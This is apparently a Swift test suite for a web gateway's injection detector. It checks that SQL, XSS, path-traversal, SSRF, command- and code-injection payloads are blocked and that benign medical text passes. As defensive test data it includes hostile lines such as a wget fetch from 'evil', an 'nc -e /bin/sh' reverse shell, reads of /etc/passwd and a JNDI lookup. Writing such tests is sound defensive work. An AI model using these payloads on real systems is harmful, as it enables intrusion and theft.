import GatewayTesting
import Testing
@testable import InjectionDetection

/// True positives, false positives and evasions per detector, judged through the filter (as
/// query values unless stated), so decoding and scoring are part of what is tested.
@Suite("detectors")
struct DetectorTests {
    @Test("SQL: injected syntax is blocked", arguments: [
        "1' OR '1'='1", "1 or 1=1", "admin'--", "x' UNION SELECT password FROM users--", "1; DROP TABLE patients",
        "1' AND SLEEP(5)#", "'; WAITFOR DELAY '0:0:5'--", "1 union all select null,null", "SELECT * FROM users",
        "x' and extractvalue(1,concat(0x7e,version()))--", "') OR ('a'='a", "1 AND 1=1", "information_schema.tables",
        "1' ORDER BY 3--", "1'/**/or/**/1=1", "'||'1", "' HAVING 1=1--", "'{\"a\":1}'::jsonb <@ x",
    ])
    func sqlTruePositives(_ payload: String) {
        #expect(blocksQuery(payload), "\(payload) -> \(rules(inValue: payload))")
    }

    @Test("SQL: evasions by case, comments, whitespace, encodings and JSON escapes", arguments: [
        "1' oR '1'='1", "1'/*x*/UnIoN/*x*/SeLeCt/*x*/1,2--", "1'\tor\t1=1--", "1' /*!50000union*/ select 1--",
        "1%27%20or%201%3D1--",
    ])
    func sqlEvasions(_ payload: String) {
        #expect(blocksQuery(payload), "\(payload)")
        #expect(blocksJSON(payload.removingPercentEncodingForTest), "JSON: \(payload)")
    }

    @Test("SQL: prose and data that look a little like SQL pass", arguments: [
        "O'Brien", "It's a nice day and I'm happy", "Select the best option from the list", "Tom & Jerry",
        "1-2-3", "rock 'n' roll", "drop-off at 5pm", "The code 'W' is not known and not legal", "count(s) of patients",
        "ORDER NUMBER 12345", "union station", "Just in case (abc)", "patients' rights and duties",
    ])
    func sqlFalsePositives(_ text: String) {
        #expect(!blocksQuery(text), "\(text) -> \(rules(inValue: text))")
        #expect(!blocksJSON(text), "JSON: \(text)")
    }

    @Test("XSS: executable markup and script URLs are blocked", arguments: [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\" onmouseover=\"alert(1)",
        "javascript:alert(document.cookie)", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<iframe src=//evil>",
        "<ScRiPt>prompt(1)</sCrIpT>", "<div style=\"background:url(javascript:alert(1))\">", "self['alert'](1)",
        "document/**/.cookie", "+ADw-script+AD4-alert(1)", "top['al'+'ert'](1)", "(document/**/)['cookie']", "onerror=alert;throw 1", "<link rel=import href=//evil/x>", "<body onload=alert(1)>", "<meta http-equiv=refresh content=0;url=//evil>",
    ])
    func xssTruePositives(_ payload: String) {
        #expect(blocksQuery(payload), "\(payload) -> \(rules(inValue: payload))")
    }

    @Test("XSS: inert markup (a FHIR narrative) and prose pass", arguments: [
        #"<div xmlns="http://www.w3.org/1999/xhtml"><p>Patient <b>Henry</b> seen on 2024-01-02</p><table><tr><td>BP</td><td>120/80</td></tr></table></div>"#,
        #"<a href="https://hl7.org/fhir">FHIR</a> <img src="logo.png" alt="logo"/>"#,
        "I love <3 my cat", "see section 4 -> results", "Use the online portal", "a < b and c > d", "online=yes",
    ])
    func xssFalsePositives(_ text: String) {
        #expect(!blocksQuery(text), "\(text) -> \(rules(inValue: text))")
        #expect(!blocksJSON(text, key: "div"), "JSON: \(text)")
    }

    @Test("path traversal, sensitive files and remote inclusion are blocked", arguments: [
        "../../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/shadow", "/proc/self/environ", "file:///etc/passwd",
        "php://filter/convert.base64-encode/resource=index", "http://169.254.169.254/latest/meta-data", "http://0x7f000001/",
        "gopher://127.0.0.1:6379/_", "http://example.com%2f@evil.com/", "jar:file:/x.jar!/a", ".git/config",
    ])
    func pathTruePositives(_ payload: String) {
        #expect(blocksQuery(payload), "\(payload) -> \(rules(inValue: payload))")
    }

    @Test("paths and URLs of normal data pass", arguments: [
        "images/logo.png", "http://loinc.org", "https://hl7.org/fhir/StructureDefinition/patient", "../index.html",
        "2024/01/02", "C:/Users/report.pdf", "http://www.example.com/some/path?x=1",
    ])
    func pathFalsePositives(_ text: String) {
        #expect(!blocksQuery(text), "\(text) -> \(rules(inValue: text))")
    }

    @Test("OS commands after separators, substitutions and evasions are blocked", arguments: [
        "; cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "&& wget http://evil/x.sh", "x;c'a't /e?c/p*sswd",
        "; /bin/s? -c id", "() { :; }; /bin/bash -c id", "${IFS}cat${IFS}/etc/passwd", "127.0.0.1\nnc -e /bin/sh evil 4444",
        "FOR /F %i IN ('whoami') DO echo %i", "IF EXIST C:\\boot.ini type C:\\boot.ini", "time sh -c id", "cat$@ /etc/passwd",
    ])
    func shellTruePositives(_ payload: String) {
        #expect(blocksQuery(payload), "\(payload) -> \(rules(inValue: payload))")
    }

    @Test("prose with command-like words passes", arguments: [
        "I cat-sit on weekends; it is fun", "who is on call tonight?", "sleep well | eat well",
        "Perlak", "Please find attached", "echo cardiogram scheduled", "last name & first name",
    ])
    func shellFalsePositives(_ text: String) {
        #expect(!blocksQuery(text), "\(text) -> \(rules(inValue: text))")
        #expect(!blocksJSON(text), "JSON: \(text)")
    }

    @Test("code injection: PHP, templates, JNDI, Node, Python are blocked", arguments: [
        "<?php system($_GET['c']); ?>", "system('id')", "$_SERVER['HTTP_HOST']", "O:8:\"stdClass\":0:{}", "{{7*7}}",
        "${jndi:ldap://evil/a}", "require('child_process').exec('id')", "__import__('os').system('id')", "(\"sys\".\"tem\")('id')",
        "{{constructor.constructor('alert(1)')()}}", "while(true){}", "@{[system 'id']}", "file_get_contents('/etc/passwd')",
    ])
    func codeTruePositives(_ payload: String) {
        #expect(blocksQuery(payload), "\(payload) -> \(rules(inValue: payload))")
    }

    @Test("NoSQL operators in names and JSON keys, LDAP filter breaks, CRLF header injection are blocked")
    func structural() {
        #expect(judge(defaultTester, "GET", "/login?user[$ne]=x&pass[$ne]=y").blocked)
        #expect(judge(defaultTester, "POST", "/login", headers: [("Content-Type", "application/json")],
                      body: #"{"user": "admin", "pass": {"$gt": ""}}"#).blocked)
        #expect(!judge(defaultTester, "POST", "/login", headers: [("Content-Type", "application/json")],
                       body: #"{"user": "admin", "$existsor": "x"}"#).blocked)
        #expect(blocksQuery("admin)(|(password=*)"))
        #expect(!blocksQuery("(objectClass=person)"))
        #expect(blocksQuery("en\r\nSet-Cookie: session=evil"))
        #expect(blocksQuery("x\r\n\r\nGET /admin HTTP/1.1"))
        #expect(!blocksJSON("line one\nline two"))
        // Lines of body text are not headers; in a query string a line break before `Name:` is.
        #expect(!blocksJSON("Type: Consultation\nId: 123"))
        // A command on its own line is a heading in body text, an injection in a parameter.
        #expect(blocksQuery("127.0.0.1\nid"))
        #expect(!blocksJSON("Patient\nId"))
        #expect(blocksQuery("Type: Consultation\nId: 123"))
    }

    @Test("attacks in JSON, multipart, cookies, headers and the path are found where they arrive")
    func locations() {
        let t = defaultTester
        let json = judge(t, "POST", "/api", headers: [("Content-Type", "application/fhir+json")],
                         body: #"{"resourceType":"Patient","name":[{"family":"x' UNION SELECT 1--"}]}"#)
        #expect(json.blocked)
        #expect(json.events.first?.event.details["location"] == "body:name.family")
        let multipart = ["--B", #"Content-Disposition: form-data; name="comment""#, "", "<script>alert(1)</script>", "--B--", ""]
            .joined(separator: "\r\n")
        let mp = judge(t, "POST", "/upload", headers: [("Content-Type", "multipart/form-data; boundary=B")], body: multipart)
        #expect(mp.blocked && mp.events.first?.event.details["location"] == "body:comment", "\(mp.findings)")
        let file = ["--B", #"Content-Disposition: form-data; name="f"; filename="shell.php.png""#, "Content-Type: image/png", "", "x", "--B--", ""]
            .joined(separator: "\r\n")
        #expect(judge(t, "POST", "/upload", headers: [("Content-Type", "multipart/form-data; boundary=B")], body: file).blocked)
        let cookie = judge(t, "GET", "/", headers: [("Cookie", "theme=dark; pref=1%27%20or%201%3D1--")])
        #expect(cookie.blocked && cookie.events.first?.event.details["location"] == "cookie:pref")
        #expect(judge(t, "GET", "/", headers: [("User-Agent", "() { :; }; /bin/bash -c 'id'")]).blocked)
        #expect(judge(t, "GET", "/", headers: [("Referer", "https://x/?q=<script>alert(1)</script>")]).blocked)
        #expect(judge(t, "GET", "/api/1%20union%20select%20password%20from%20users").blocked)
        let form = judge(t, "POST", "/form", headers: [("Content-Type", "application/x-www-form-urlencoded")], body: "a=1&b=%3Cscript%3E")
        #expect(form.blocked && form.events.first?.event.details["location"] == "body:b")
    }
}

extension String {
    /// `%HH` decoded (the tests' own helper: the payload as a JSON client would send it).
    var removingPercentEncodingForTest: String {
        var out: [UInt8] = []
        _ = Array(utf8).withUnsafeBytes { PercentDecoding.decode($0, plusIsSpace: false, into: &out) }
        return String(decoding: out, as: UTF8.self)
    }
}
